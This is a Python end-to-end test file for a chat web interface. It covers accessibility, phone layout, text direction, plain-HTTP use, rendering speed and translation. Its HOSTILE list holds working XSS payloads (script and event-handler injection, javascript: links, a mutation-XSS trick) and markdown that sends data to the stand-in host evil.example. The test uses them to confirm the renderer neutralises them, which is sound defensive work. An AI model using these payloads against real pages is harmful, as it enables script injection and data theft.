"""Accessibility and safety of the page: assistive technology, phones, both directions, plain HTTP, hostile models."""

from __future__ import annotations

import socket
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.page.browser import NEEDS_BROWSER, answered, axe_source, long_chat, say, serving, take_in, until

pytestmark = NEEDS_BROWSER

HOSTILE = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "![x](https://evil.example/?q=secret)",
    "<svg onload='window.hit = 1'><style>*{background:url(https://evil.example/s)}</style></svg>",
    "[click](javascript:window.hit=1)",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hit=1&gt;'>",
    "<form action='https://evil.example'><input name=a><button>Go</button></form>",
    "<iframe src='https://evil.example'></iframe><object data='https://evil.example'></object>",
    "<a href='https://evil.example' ping='https://evil.example/ping'>a</a>",
    "<video src='https://evil.example/v' autoplay></video><link rel=stylesheet href='https://evil.example/c'>",
    "<div style='position:fixed;inset:0' class='primary' id='search'>over all</div>",
    "> " * 3000 + "deep",
    r"$\href{javascript:window.hit=1}{x}$ $\htmlStyle{position:fixed}{x}$ $\includegraphics{https://evil.example/x}$",
    r"$$\def\a{\a\a}\a$$ $$<img src=x onerror='window.hit = 1'>$$ \(\text{<img src=x onerror='window.hit = 1'>}\)",
    "```html\n<img src=x onerror='window.hit = 1'>\n```",
    "a" * 1_000_000,
    "```" + "\n`" * 500,
]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_serious(browser: Any, address: str, scheme: str):
    source = axe_source()
    context = browser.new_context(color_scheme=scheme, viewport={"width": 1200, "height": 800}, bypass_csp=True)
    page = context.new_page()
    page.set_default_timeout(40_000)
    page.goto(address)
    say(page, "Write a poem.")
    answered(page)
    page.get_by_role("button", name="Regenerate").click()  # so that the cached part of a prompt is looked at too
    page.get_by_text("2/2").wait_for()
    answered(page)
    page.evaluate(source)
    _check(page, "chat")
    page.get_by_role("button", name="Settings").click()
    _check(page, "settings")
    page.get_by_role("button", name="Cancel").click()
    page.get_by_role("button", name="Models").click()
    _check(page, "models")
    page.get_by_role("button", name="Close").click()
    page.get_by_role("button", name="Tokens").click()
    page.locator("button.token").first.wait_for()
    _check(page, "tokens")
    page.get_by_role("button", name="Close").click()
    page.get_by_role("link", name="Engine").click()
    page.get_by_role("img", name="KV pool").wait_for()
    _check(page, "engine")
    context.close()


def _check(page: Any, where: str) -> None:
    found = page.evaluate("async () => (await axe.run(document, {resultTypes: ['violations']})).violations")
    serious = [
        (each["id"], [node["target"] for node in each["nodes"]][:5])
        for each in found
        if each["impact"] in ("serious", "critical")
    ]
    assert not serious, (where, serious)


def test_a_phone_needs_no_scrolling_to_the_side(page: Any, address: str):
    page.goto(address)
    say(page, "Write a poem.")
    answered(page)
    for hash_name in ("", "#engine"):
        page.goto(f"{address}{hash_name}")
        page.get_by_role("link", name="Engine").wait_for()
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    small = page.evaluate(
        "[...document.querySelectorAll('.top button, .top a, .composer button')].filter((e) => e.offsetHeight < 44)"
        ".length"
    )
    assert small == 0


def test_text_has_its_own_direction(page: Any, address: str):
    page.goto(address)
    say(page, "Answer in Arabic.")
    page.get_by_text("مرحبا بالعالم").wait_for()
    directions = page.evaluate(
        "[...document.querySelectorAll('article .text')].map((e) => getComputedStyle(e).direction)"
    )
    assert directions == ["ltr", "rtl"]
    page.evaluate("document.documentElement.dir = 'rtl'")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_it_works_on_plain_http_in_a_lan(page: Any, tmp_path: Path):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))  # nothing is sent: it is only asked which address would be
        except OSError:
            pytest.skip("this machine has no address in a network")
        own = probe.getsockname()[0]
    with serving(tmp_path, "--host", "0.0.0.0", "--allow-unauthenticated") as url:
        page.goto(f"http://{own}:{url.rsplit(':', 1)[1].rstrip('/')}/")
        assert page.evaluate("isSecureContext") is False
        say(page, "Write a poem.")
        answered(page)
        page.get_by_role("button", name="Copy code").click()
        page.get_by_role("link", name="Engine").click()
        page.get_by_role("img", name="KV pool").wait_for()
        until(page, "import('./ui/engine/stream.js').then((stream) => stream.isLeading.value)")


def test_hostile_markdown_neither_runs_nor_sends_anything(page: Any, address: str):
    page.goto(address)
    nodes = {
        f"n{at}": {"id": f"n{at}", "parent": f"n{at - 1}" if at else "", "role": "assistant", "content": text}
        for at, text in enumerate(HOSTILE)
    }
    chat = {"title": "Hostile", "updated": 1, "nodes": nodes, "leaf": f"n{len(HOSTILE) - 1}"}
    take_in(page, [chat])
    page.get_by_role("log").get_by_text("deep").wait_for()
    page.get_by_role("log").get_by_text("click").click(force=True)
    left = page.evaluate(
        "document.querySelectorAll('.log :is(script, img, svg, form, iframe, object, style, video, link, [style], "
        "[onerror], [onload], [ping], a[href^=javascript])').length"
    )
    assert left == 0
    assert page.evaluate("window.hit") is None


TYPE = """async () => {
  const area = document.querySelector('[aria-label=Message]');
  const changes = new MutationObserver(() => {});
  const all = { subtree: true, childList: true, attributes: true, characterData: true };
  changes.observe(document.querySelector('[role=log]'), all);
  for (let at = 0; at < 20; at += 1) {
    area.value += 'x';
    area.dispatchEvent(new InputEvent('input', { bubbles: true }));
    area.getBoundingClientRect();
    await new Promise((resolve) => setTimeout(resolve));
  }
  return changes.takeRecords().length;
}"""


def test_typing_is_quick_beside_500_messages(page: Any, address: str):
    """A key stroke draws no message anew, and takes less than 50 ms of the processor's time, however busy that is."""
    page.goto(address)
    text = "Some **bold** words and `code`. " * 60
    nodes = {
        f"n{at}": {
            "id": f"n{at}",
            "parent": f"n{at - 1}" if at else "",
            "role": "assistant" if at % 2 else "user",
            "content": text,
        }
        for at in range(500)
    }
    take_in(page, [{"title": "Long", "updated": 1, "nodes": nodes, "leaf": "n499"}])
    log = page.get_by_role("log")
    until(page, "document.querySelectorAll('article').length === 100")
    log.get_by_text("400 messages are earlier").wait_for()
    for number in (200, 300, 400, 500):
        log.get_by_role("button", name="Show 100 earlier").click()
        until(page, f"document.querySelectorAll('article').length === {number}")
    assert log.get_by_role("button", name="earlier").count() == 0
    session = page.context.new_cdp_session(page)
    session.send("Performance.enable", {"timeDomain": "threadTicks"})
    before = seconds(session)
    assert page.evaluate(TYPE) == 0, "no message is drawn anew"
    assert (seconds(session) - before) / 20 < 0.05


def seconds(session: Any) -> float:
    """Time of the processor that the tasks of the page have taken."""
    metrics = session.send("Performance.getMetrics")["metrics"]
    return next(each["value"] for each in metrics if each["name"] == "TaskDuration")


def test_what_is_earlier_comes_when_asked_for_and_what_is_read_stays_in_place(page: Any, address: str):
    page.goto(address)
    take_in(page, [long_chat(230, "message {}.")])
    log = page.get_by_role("log")
    log.get_by_text("message 229.").wait_for()
    log.get_by_role("button", name="Show 100 earlier").scroll_into_view_if_needed()
    place = "document.querySelector('[data-id=n130]').getBoundingClientRect().top"
    before = page.evaluate(place)
    log.get_by_role("button", name="Show 100 earlier").click()
    until(page, "document.querySelector('[data-id=n30]') !== null")
    until(page, f"Math.abs({place} - {before}) < 80")


def test_a_screen_reader_is_told_whole_sentences(page: Any, address: str):
    """They stand in the page once only: the place for screen readers is closed to everything else."""
    page.goto(address)
    say(page, "Write a poem.")
    answered(page)
    assert page.get_by_text("for $5 or $6.").count() == 1
    session = page.context.new_cdp_session(page)
    nodes = session.send("Accessibility.getFullAXTree")["nodes"]
    live = [each for each in nodes if _property(each, "live") == "polite" and not each.get("ignored")]
    assert live, "there is a place for announcements"
    assert page.get_by_role("log").get_attribute("aria-live") == "off"


def _property(node: Any, name: str) -> Any:
    return next((each["value"].get("value") for each in node.get("properties", ()) if each["name"] == name), None)


def test_markdown_that_grows_is_read_as_the_whole_would_be(page: Any, address: str):
    page.goto(address)
    text = (
        "# A\n\nsome *text*\n- a\n- b\n\n  more\n\n> quote\nlazy\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nlet a;\n"
        "\n```\nend\n\n<b>x</b>\n\n1. one\n\n2. two\n\n$$x^2$$\n\nlast [a][b]\n\n[b]: /x\n"
    )
    differs = page.evaluate(
        """async (text) => {
          const { readOn } = await import('./ui/text/markdown.js');
          const fresh = () => ({ text: '', blocks: [], isRead: true });
          let before = fresh();
          for (let at = 1; at <= text.length; at += 1) {
            before = readOn(before, text.slice(0, at));
            const [grown, whole] = [before, readOn(fresh(), text.slice(0, at))]
              .map(({ blocks }) => JSON.stringify(blocks.map(({ type, raw }) => [type, raw])));
            if (grown !== whole) return [text.slice(0, at), grown, whole];
          }
          return null;
        }""",
        text,
    )
    assert differs is None


@pytest.mark.parametrize("language", ["de", "pseudo"])
def test_every_word_is_translated_and_longer_words_fit(page: Any, address: str, language: str):
    page.add_init_script(f"localStorage.setItem('stoker.language', '{language}')")
    page.goto(address)
    textbox = page.get_by_role("textbox").first
    textbox.wait_for()
    textbox.fill("Write a poem.")
    textbox.press("Enter")
    page.locator(".acts .act[data-act=regenerate]").wait_for()
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    if language == "pseudo":
        assert page.evaluate(UNTRANSLATED) == []
        page.goto(f"{address}#engine")
        page.locator(".icicle").wait_for()
        assert page.evaluate(UNTRANSLATED) == []
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    else:
        assert page.evaluate("document.documentElement.lang") == "de"
        page.get_by_role("button", name="Einstellungen").wait_for()


UNTRANSLATED = """() => {
  const own = /^(Stoker|scripted|poem|−.*|×?\\d.*|[‹›×?·–]|\\d+\\/\\d+|\\W*)$/;
  const wordsOf = (each) => [each.getAttribute('aria-label'), each.title,
    ...[...each.childNodes].filter(({ nodeType }) => nodeType === Node.TEXT_NODE).map(({ data }) => data)];
  const all = 'button, label, summary, th, h2, h3, dt, .hint, .note, .legend';
  const words = [...document.querySelectorAll(all)].flatMap(wordsOf).map((word) => (word ?? '').trim());
  return words.filter((word) => word && !word.includes('⟦') && !own.test(word) && !word.includes('poem'));
}"""


def test_high_contrast_shows_what_color_says(browser: Any, address: str):
    context = browser.new_context(forced_colors="active", viewport={"width": 1000, "height": 700})
    page = context.new_page()
    page.set_default_timeout(40_000)
    page.goto(f"{address}#engine")
    page.get_by_role("img", name="KV pool").wait_for()
    outlined = "getComputedStyle(document.querySelector('.icicle rect')).stroke !== 'none'"
    assert page.evaluate(outlined)
    page.get_by_role("link", name="Engine").click()
    say(page, "Write a poem.")
    answered(page)
    assert page.evaluate("getComputedStyle(document.querySelector('.composer .box')).borderStyle") == "solid"
    context.close()
